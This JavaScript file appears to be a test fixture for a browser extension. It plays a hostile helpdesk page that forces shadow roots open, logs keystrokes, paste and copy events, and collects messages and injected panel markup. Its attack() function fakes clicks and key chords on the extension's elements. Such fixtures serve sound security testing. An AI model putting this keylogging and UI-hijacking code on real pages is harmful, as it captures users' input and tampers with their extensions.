// What a hostile helpdesk page tries, from its very first script: it collects all that it can see in `window.loot`.
(() => {
  const loot = { roots: [], keys: [], messages: [], frames: 0, violations: [], nodes: [], resources: [], hosts: 0 };
  window.loot = loot;
  const attach = Element.prototype.attachShadow;
  Element.prototype.attachShadow = function (init) {
    const root = attach.call(this, { ...init, mode: "open" });
    loot.roots.push(root);
    return root;
  };
  for (const type of ["keydown", "keypress", "keyup", "beforeinput", "input", "paste", "copy"]) {
    window.addEventListener(type, (event) => loot.keys.push([type, event.key ?? event.data ?? ""]), true);
  }
  window.addEventListener("message", (event) => loot.messages.push(String(event.data)));
  document.addEventListener("securitypolicyviolation", (event) => loot.violations.push(`${event.violatedDirective} ${event.blockedURI} ${event.sourceFile}`));
  const look = () => {
    loot.frames = Math.max(loot.frames, window.length, Object.keys(window).filter((name) => /^\d+$/.test(name)).length);
    const extra = [...document.documentElement.children].filter((one) => !["HEAD", "BODY"].includes(one.tagName));
    loot.hosts = Math.max(loot.hosts, extra.length);
    for (const one of extra) {
      if (one.shadowRoot) loot.roots.push(one.shadowRoot);
      loot.nodes.push(one.outerHTML);
    }
    loot.resources = performance.getEntries().map((entry) => entry.name).filter((name) => name.includes("extension"));
  };
  new MutationObserver(look).observe(document, { childList: true, subtree: true });
  setInterval(look, 50);

  /** Everything that a script can press, type and call on what it finds. */
  window.attack = () => {
    const targets = [...document.documentElement.children].filter((one) => !["HEAD", "BODY"].includes(one.tagName));
    for (let y = 5; y < innerHeight; y += 12) {
      for (let x = innerWidth / 2; x < innerWidth; x += 12) {
        const hit = document.elementFromPoint(x, y);
        if (hit && targets.includes(hit)) {
          for (const type of ["pointerdown", "mousedown", "pointerup", "mouseup", "click"]) {
            hit.dispatchEvent(new MouseEvent(type, { bubbles: true, cancelable: true, composed: true, clientX: x, clientY: y }));
          }
        }
      }
    }
    const inside = targets.flatMap((one) => [...(one.shadowRoot?.querySelectorAll("button") ?? [])]);
    for (const target of [...targets, ...inside, document.body, window]) {
      target.click?.();
      target.focus?.();
      for (const key of ["s", "i", "k"]) {
        const init = { key, code: `Key${key.toUpperCase()}`, altKey: true, shiftKey: true, bubbles: true, composed: true };
        target.dispatchEvent(new KeyboardEvent("keydown", init));
        target.dispatchEvent(new KeyboardEvent("keyup", init));
      }
    }
    return targets.length;
  };

  /** Tries to get at the panel by its public address. */
  window.reach = async (address) => {
    const fetched = await fetch(address).then((answer) => answer.status, () => 0);
    return fetched;
  };
})();
